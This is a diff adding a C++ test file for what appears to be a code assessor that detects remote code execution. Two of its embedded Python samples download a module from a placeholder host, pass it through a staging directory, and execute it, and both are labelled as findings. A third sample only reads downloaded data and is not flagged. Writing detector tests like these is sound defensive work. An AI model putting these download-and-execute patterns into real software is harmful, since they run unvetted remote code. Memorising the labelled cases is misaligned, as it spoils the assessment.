@@ -1,0 +1,49 @@
+// The classes the twenty-second session modelled (issue 14): a tune miss
+// left by the seventy-eighth round (tests/corpus/prog82_MANIFEST.tsv) and
+// the classes of the eightieth round's tune part (prog84_MANIFEST.tsv),
+// found by programs written from the rubric alone by writers who never saw
+// the assessor. Strings here are never executed.
+#include "test_util.hpp"
+
+namespace mai::assess::test {
+namespace {
+
+// A directory moved or copied whole carries the files the code wrote into
+// it: a downloaded module staged, swapped into place and imported is still
+// the download.
+TEST(EightiethRoundClasses, ADirectoryMovedWholeCarriesTheFilesWrittenIntoIt) {
+  const Case cases[] = {
+      {"a module downloaded into staging/, staging renamed to current/, then exec_module", B,
+       "import importlib.util, requests\n"
+       "from pathlib import Path\n"
+       "staging, current = Path('rules/staging'), Path('rules/current')\n"
+       "staging.mkdir(parents=True, exist_ok=True)\n"
+       "(staging / 'zone.py').write_bytes(requests.get('https://feed.example.org/zone.py', timeout=9).content)\n"
+       "staging.rename(current)\n"
+       "spec = importlib.util.spec_from_file_location('zone', current / 'zone.py')\n"
+       "mod = importlib.util.module_from_spec(spec)\n"
+       "spec.loader.exec_module(mod)\n",
+       "REMOTE-CODE-EXECUTION"},
+      {"the same through shutil.copytree and runpy", B,
+       "import runpy, shutil, urllib.request\n"
+       "import os\n"
+       "os.makedirs('pack/new', exist_ok=True)\n"
+       "urllib.request.urlretrieve('https://feed.example.org/hook.py', 'pack/new/hook.py')\n"
+       "shutil.copytree('pack/new', 'pack/live', dirs_exist_ok=True)\n"
+       "runpy.run_path('pack/live/hook.py')\n",
+       "REMOTE-CODE-EXECUTION"},
+      {"downloaded tables staged and swapped into place, then only read", L,
+       "import json, requests\n"
+       "from pathlib import Path\n"
+       "staging, current = Path('fares/staging'), Path('fares/current')\n"
+       "staging.mkdir(parents=True, exist_ok=True)\n"
+       "(staging / 'zones.json').write_bytes(requests.get('https://feed.example.org/zones.json', timeout=9).content)\n"
+       "staging.rename(current)\n"
+       "print(len(json.loads((current / 'zones.json').read_text())))\n",
+       nullptr},
+  };
+  for (const auto& c : cases) check(c);
+}
+
+}  // namespace
+}  // namespace mai::assess::test
